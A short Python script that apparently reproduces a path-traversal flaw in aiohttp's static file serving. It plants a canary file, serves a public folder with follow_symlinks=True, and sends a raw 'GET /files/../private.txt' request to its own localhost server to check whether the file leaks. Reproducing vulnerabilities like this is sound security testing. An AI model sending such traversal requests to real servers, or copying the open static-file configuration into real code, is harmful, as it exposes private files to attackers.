import asyncio
from pathlib import Path

from aiohttp import web

Path("/tmp/site/public").mkdir(parents=True)
Path("/tmp/site/private.txt").write_text("canary-7b1e\n")


async def main():
    application = web.Application()
    application.router.add_static("/files", "/tmp/site/public", follow_symlinks=True)
    runner = web.AppRunner(application)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 8099)
    await site.start()
    reader, writer = await asyncio.open_connection("127.0.0.1", 8099)
    writer.write(b"GET /files/../private.txt HTTP/1.0\r\nHost: here\r\n\r\n")
    answer = await reader.read()
    print(answer.partition(b"\r\n\r\n")[2].decode())
    writer.close()
    await runner.cleanup()


asyncio.run(main())
